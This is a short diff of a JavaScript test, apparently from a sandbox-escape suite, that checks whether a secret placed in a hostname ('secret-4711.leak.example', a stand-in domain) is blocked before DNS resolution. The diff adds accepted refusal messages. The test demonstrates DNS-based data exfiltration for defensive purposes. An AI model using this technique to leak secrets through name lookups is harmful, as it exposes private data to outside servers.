@@ -1,7 +1,7 @@
 // A secret in the name of a host.
 // tries: have a name resolved that holds the secret: the name server of its domain would hear it, whatever becomes of the request
 // must: be refused before the name is resolved (here all names of the domain lead to the listener)
-// refusal: Failed to fetch|no network
+// refusal: Failed to fetch|NetworkError|Load failed|no network
 // control: heard
 const address = new URL(OUT);
 address.hostname = 'secret-4711.leak.example';
